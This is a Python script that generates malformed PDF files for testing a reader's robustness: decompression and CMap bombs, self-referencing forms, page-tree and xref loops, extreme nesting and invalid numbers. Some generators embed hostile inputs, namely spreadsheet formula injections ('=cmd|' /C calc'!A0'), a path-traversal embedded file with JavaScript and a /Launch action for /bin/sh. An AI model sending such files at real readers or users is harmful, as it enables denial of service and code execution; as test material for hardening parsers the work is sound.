#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes PDF files that attack a reader: without end, with far too much of something, or with lies about their structure.

usage: craft_attacks.py FOLDER [--small]

Each attack is a function below; its name is the file's name. --small makes each a hundredth as large, for quick tests. The
files are the same at every run.
"""
import argparse
import os
import zlib

SCALE = 1


class Pdf:
    """A PDF of numbered objects; what an attack does not set is as in a plain file of one page."""

    def __init__(self):
        self.objects = {1: b'<< /Type /Catalog /Pages 2 0 R >>', 2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
                        3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 5 0 R >>',
                        5: b'<< /Font << /F 6 0 R >> >>', 6: b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'}
        self.stream(4, b'BT /F 12 Tf 72 700 Td (plain) Tj ET')

    def stream(self, number, data, entries=b'', compressed=True):
        if compressed:
            data = zlib.compress(data, 9)
            entries += b' /Filter /FlateDecode'
        self.objects[number] = b'<< /Length %d %s >>\nstream\n%s\nendstream' % (len(data), entries, data)

    def bytes(self, trailer=b''):
        out = bytearray(b'%PDF-1.7\n')
        places = {}
        for number, body in sorted(self.objects.items()):
            places[number] = len(out)
            out += b'%d 0 obj\n%s\nendobj\n' % (number, body)
        start, size = len(out), max(self.objects) + 1
        out += b'xref\n0 1\n0000000000 65535 f \n'
        for number, place in sorted(places.items()):
            out += b'%d 1\n%010d 00000 n \n' % (number, place)
        return bytes(out + b'trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n' % (size, trailer, start))


def page(content, compressed=True):
    pdf = Pdf()
    pdf.stream(4, content, compressed=compressed)
    return pdf


def nested_forms_without_end():
    pdf = page(b'/X Do')
    pdf.objects[5] = b'<< /XObject << /X 7 0 R >> >>'
    pdf.stream(7, b'/X Do /X Do', b'/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 7 0 R >> >>')
    return pdf.bytes()


def forms_that_double():
    """Thirty forms, each drawn twice by the one before: a billion drawings."""
    pdf = page(b'/X Do')
    pdf.objects[5] = b'<< /XObject << /X 10 0 R >> >>'
    for number in range(10, 40):
        inside = b'/X Do /X Do' if number < 39 else b'0 0 9 9 re f'
        pdf.stream(number, inside, b'/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>'
                   % min(number + 1, 39))
    return pdf.bytes()


def tiny_tilings():
    pdf = page(b'/Pattern cs /P scn 0 0 595 842 re f ' * 50)
    pdf.objects[5] = b'<< /Pattern << /P 7 0 R >> >>'
    pdf.stream(7, b'0 0 .001 .001 re f', b'/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .002 .002] '
               b'/XStep .002 /YStep .002 /Resources << >>')
    return pdf.bytes()


def saves_by_the_million():
    return page(b'q ' * (20_000_000 // SCALE)).bytes()


def path_points_by_the_million():
    return page(b'0 0 m ' + b'1 1 l ' * (40_000_000 // SCALE) + b'S').bytes()


def rules_by_the_million():
    return page(b''.join(b'%d %d m %d %d l S\n' % (i % 595, i % 842, (i * 7) % 595, i % 842) for i in range(2_000_000 // SCALE))).bytes()


def glyphs_at_one_spot():
    return page(b'BT /F 12 Tf 72 700 Td ' + b'(x) Tj -6 0 Td ' * (1_000_000 // SCALE) + b'ET').bytes()


def rotated_words():
    lines = [b'BT /F 8 Tf']
    for i in range(100_000 // SCALE):
        lines.append(b'.%03d .%03d -.%03d .%03d %d %d Tm (word) Tj' % (i % 1000, 999 - i % 1000, 999 - i % 1000, i % 1000, i % 595, i % 842))
    return page(b'\n'.join(lines) + b'\nET').bytes()


def grid_of_tiny_cells():
    lines = [b'%d.%d 0 m %d.%d 842 l S' % (i // 4, i % 4 * 25, i // 4, i % 4 * 25) for i in range(2380 // min(SCALE, 10))]
    lines += [b'0 %d.%d m 595 %d.%d l S' % (i // 4, i % 4 * 25, i // 4, i % 4 * 25) for i in range(3368 // min(SCALE, 10))]
    return page(b'\n'.join(lines)).bytes()


def deflate_bomb():
    pdf = Pdf()
    bomb = zlib.compressobj(1)
    data = b''.join(bomb.compress(bytes(1 << 20)) for _ in range(4096 // SCALE)) + bomb.flush()
    pdf.objects[4] = b'<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream' % (len(data), data)
    return pdf.bytes()


def deflate_bomb_twice():
    pdf = Pdf()
    data = zlib.compress(zlib.compress(bytes((1 << 30) // SCALE), 1), 1)
    pdf.objects[4] = b'<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream' % (len(data), data)
    return pdf.bytes()


def run_length_bomb():
    pdf = Pdf()
    data = zlib.compress(b'\x81 ' * (20_000_000 // SCALE), 9)
    pdf.objects[4] = b'<< /Length %d /Filter [/FlateDecode /RunLengthDecode] >>\nstream\n%s\nendstream' % (len(data), data)
    return pdf.bytes()


def page_tree_loop():
    pdf = Pdf()
    pdf.objects[2] = b'<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 >>'
    return pdf.bytes()


def deep_page_tree():
    pdf = Pdf()
    depth = 100_000 // SCALE
    pdf.objects[2] = b'<< /Type /Pages /Kids [10 0 R] /Count 1 >>'
    for i in range(depth):
        pdf.objects[10 + i] = b'<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>' % (9 + i if i else 2, 11 + i if i < depth - 1 else 3)
    return pdf.bytes()


def deep_arrays():
    pdf = Pdf()
    depth = 1_000_000 // SCALE
    pdf.objects[3] = pdf.objects[3].replace(b'[0 0 595 842]', b'[' * depth + b'0' + b']' * depth)
    return pdf.bytes()


def deep_structure_tree():
    pdf = Pdf()
    depth = 50_000 // SCALE
    pdf.objects[1] = b'<< /Type /Catalog /Pages 2 0 R /MarkInfo << /Marked true >> /StructTreeRoot 10 0 R >>'
    pdf.objects[10] = b'<< /Type /StructTreeRoot /K 11 0 R >>'
    for i in range(depth):
        pdf.objects[11 + i] = b'<< /Type /StructElem /S /Table /P %d 0 R /K %d 0 R >>' % (10 + i, 12 + i if i < depth - 1 else 11)
    return pdf.bytes()


def xref_loop():
    data = Pdf().bytes()
    start = data.rindex(b'startxref\n') + 10
    place = int(data[start:].split()[0])
    return data.replace(b'/Root 1 0 R', b'/Root 1 0 R /Prev %d' % place)


def xref_lies():
    return Pdf().bytes().replace(b'00000 n', b'00007 n').replace(b'startxref\n', b'startxref\n9')


def huge_box():
    pdf = page(b'BT /F 12 Tf 9e30 9e30 Td (far) Tj ET 0 0 1e38 1e38 re f')
    pdf.objects[3] = pdf.objects[3].replace(b'[0 0 595 842]', b'[-1e38 -1e38 1e38 1e38]')
    return pdf.bytes()


def box_that_is_no_number():
    pdf = page(b'nan inf 1e999 -1e999 re S BT /F 1e999 Tf (x) Tj ET 1e200 0 0 1e200 0 0 cm 1e200 0 0 1e200 0 0 cm 0 0 m 1 1 l S')
    pdf.objects[3] = pdf.objects[3].replace(b'[0 0 595 842]', b'[nan 0 1e999 -0]')
    return pdf.bytes()


def ten_thousand_pages():
    pdf = Pdf()
    count = 10_000 // SCALE
    pdf.objects[2] = b'<< /Type /Pages /Kids [%s] /Count %d >>' % (b' '.join(b'%d 0 R' % (10 + i) for i in range(count)), count)
    for i in range(count):
        pdf.objects[10 + i] = pdf.objects[3]
    return pdf.bytes()


def a_billion_pages_claimed():
    pdf = Pdf()
    pdf.objects[2] = b'<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>'
    return pdf.bytes()


def cmap_bomb():
    ranges = b''.join(b'100 begincidrange\n' + b'<0000> <ffff> %d\n' % (i % 60000) * 100 + b'endcidrange\n' for i in range(1_000 // SCALE))
    pdf = page(b'BT /F 12 Tf 72 700 Td <00410042> Tj ET')
    pdf.objects[6] = (b'<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 8 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 '
                      b'/BaseFont /X /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >> >>] /ToUnicode 8 0 R >>')
    pdf.stream(8, b'/CMapType 1 def 1 begincodespacerange <0000> <ffff> endcodespacerange\n' + ranges, b'/Type /CMap /CMapName /X')
    return pdf.bytes()


def type3_font_in_itself():
    pdf = page(b'BT /F 12 Tf 72 700 Td (aaaa) Tj ET')
    pdf.objects[6] = (b'<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 8 0 R >> /Encoding '
                      b'<< /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] /Resources << /Font << /F 6 0 R >> >> >>')
    pdf.stream(8, b'BT /F 1 Tf (aaaaaaaa) Tj ET')
    return pdf.bytes()


def text_like_formulas():
    rows = [b'=HYPERLINK\\("http://x"\\)', b'+1+cmd|calc', b'@SUM\\(A1\\)', b'-2+3', b"=cmd|' /C calc'!A0"]
    content = b'BT /F 10 Tf 72 700 Td 14 TL ' + b''.join(b'(%s) Tj T* ' % row for row in rows) + b'ET'
    content += b''.join(b' 60 %d m 400 %d l S' % (y, y) for y in range(640, 720, 14)) + b' 60 640 m 60 710 l S 400 640 m 400 710 l S'
    return page(content).bytes()


def embedded_file_that_climbs():
    pdf = Pdf()
    pdf.objects[1] = (b'<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(../../x.sh) 8 0 R] >> /JavaScript << /Names [(a) '
                      b'<< /S /JavaScript /JS (app.launchURL\\("http://x"\\)) >>] >> >> /OpenAction << /S /Launch /F (/bin/sh) >> >>')
    pdf.objects[8] = b'<< /Type /Filespec /F (../../x.sh) /UF (../../x.sh) /EF << /F 9 0 R >> >>'
    pdf.stream(9, b'#!/bin/sh\ntouch owned\n', b'/Type /EmbeddedFile')
    return pdf.bytes()


def form_value_without_end():
    return page(b'BT /F 12 Tf 72 700 Td (' + b'9' * (10_000_000 // SCALE) + b') Tj ET').bytes()


def page_labels_in_a_circle():
    pdf = Pdf()
    pdf.objects[1] = b'<< /Type /Catalog /Pages 2 0 R /PageLabels 8 0 R /Outlines 9 0 R >>'
    pdf.objects[8] = b'<< /Kids [8 0 R 8 0 R] >>'
    pdf.objects[9] = b'<< /First 9 0 R /Last 9 0 R /Next 9 0 R /Count 1000000 >>'
    return pdf.bytes()


def length_in_a_circle():
    pdf = Pdf()
    pdf.objects[4] = b'<< /Length 4 0 R >>\nstream\nBT ET\nendstream'
    return pdf.bytes()


ATTACKS = [value for name, value in list(globals().items()) if callable(value) and name.islower() and name != 'page' and
           value.__module__ == __name__]


def main():
    global SCALE
    parser = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    parser.add_argument('folder')
    parser.add_argument('--small', action='store_true')
    options = parser.parse_args()
    SCALE = 100 if options.small else 1
    os.makedirs(options.folder, exist_ok=True)
    for attack in ATTACKS:
        with open(os.path.join(options.folder, attack.__name__.replace('_', '-') + '.pdf'), 'wb') as handle:
            handle.write(attack())


if __name__ == '__main__':
    main()
